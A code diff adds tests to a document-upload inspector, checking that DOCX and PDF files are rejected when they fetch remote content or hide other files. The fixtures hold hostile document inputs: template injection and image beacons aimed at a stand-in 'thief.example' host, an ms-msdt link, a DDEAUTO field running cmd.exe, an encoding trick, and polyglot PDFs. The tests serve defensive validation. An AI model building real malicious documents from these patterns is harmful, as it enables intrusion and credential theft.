@@ -95,6 +95,57 @@ describe('inspection of documents', () => {
   it('refuses a DOCX with macros', async () => {
     expect(await refusal(docx(sentence, { 'word/vbaProject.bin': strToU8('macro') }))).toBe('FILE_REJECTED');
   });
+
+  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+  const related = (attributes: string): string =>
+    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" ${attributes}/></Relationships>`;
+  const withRelationship = (attributes: string): Promise<string> =>
+    refusal(docx(sentence, { 'word/_rels/settings.xml.rels': strToU8(related(attributes)) }));
+  it.each([
+    `Type="${office}/attachedTemplate" Target="https://thief.example/t.dotm" TargetMode="External"`,
+    `Type="${office}/attachedTemplate" Target="file://thief.example/t.dotm" TargetMode="External"`,
+    `Type="${office}/attachedTemplate" Target="\\\\thief.example\\t.dotm" TargetMode="External"`,
+    `TargetMode='External' Target='http://thief.example/1.png' Type='${office}/image'`,
+    `Type="${office}/oleObject" Target="http://thief.example/o" TargetMode="&#69;xternal"`,
+    `Type="${office}/frame" Target="file:///etc/passwd" TargetMode="External"`,
+    `Type="${office}/hyperlink" Target="file://thief.example/share" TargetMode="External"`,
+    `Type="${office}/hyperlink" Target="ms-msdt:/id" TargetMode="External"`,
+  ])('refuses a DOCX that fetches something from elsewhere when it is opened: %s', async (attributes) => {
+    expect(await withRelationship(attributes)).toBe('FILE_REJECTED');
+  });
+  it.each([
+    `Type="${office}/hyperlink" Target="https://me.example/?a=1&amp;b=2" TargetMode="External"`,
+    `Type="${office}/hyperlink" Target="mailto:me@people.example" TargetMode="External"`,
+    `Type="${office}/attachedTemplate" Target="file:///C:\\Users\\me\\Resume.dotx" TargetMode="External"`,
+    `Type="${office}/image" Target="media/image1.png"`,
+  ])('accepts a DOCX with a link or what belongs to it: %s', async (attributes) => {
+    expect(await withRelationship(attributes)).toBe('accepted');
+  });
+  it('refuses a DOCX whose relationships are written so that only some programs read them', async () => {
+    const text = related(`Type="${office}/image" Target="http://thief.example/1.png" TargetMode="External"`);
+    const wide = Buffer.from(`\ufeff${text}`, 'utf16le');
+    expect(await refusal(docx(sentence, { 'word/_rels/document.xml.rels': wide }))).toBe('FILE_REJECTED');
+  });
+  it('refuses a DOCX with a field that fetches something from elsewhere', async () => {
+    const field = (text: string) => strToU8(`<w:p><w:r><w:instrText>${text}</w:instrText></w:r></w:p>`);
+    expect(await refusal(docx(sentence, { 'word/header1.xml': field(' DDEAUTO c:\\\\cmd.exe') }))).toBe(
+      'FILE_REJECTED',
+    );
+    expect(await refusal(docx(sentence, { 'word/header1.xml': field(' PAGE ') }))).toBe('accepted');
+  });
+
+  it('refuses a PDF that is another file as well', async () => {
+    const good = pdf(1, sentence);
+    const zip = zipSync({ 'payload.txt': strToU8('payload') });
+    const page = strToU8('<html><script>alert(1)</script></html>');
+    const joined = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));
+    const [empty, junk] = [new Uint8Array(2_000), strToU8('x'.repeat(2_000))];
+    for (const other of [joined(page, good), joined(good, zip), joined(zip, good), joined(good, junk)])
+      expect(await refusal(other)).toBe('FILE_REJECTED');
+    expect(await refusal(joined(good, zip, strToU8('\n%%EOF')))).toBe('FILE_REJECTED');
+    for (const same of [joined(strToU8('\r\n '), good), joined(good, strToU8('\n')), joined(good, empty)])
+      expect(await refusal(same)).toBe('accepted');
+  });
   it('reads what a PDF and a DOCX say', async () => {
     const skill = { kind: 'skill', quote: 'Skills: Python', id: 'python', label: 'Python', matched: 'Python' };
     expect((await inspector.read(pdf(1, 'Skills: Python'))).findings).toEqual([skill]);
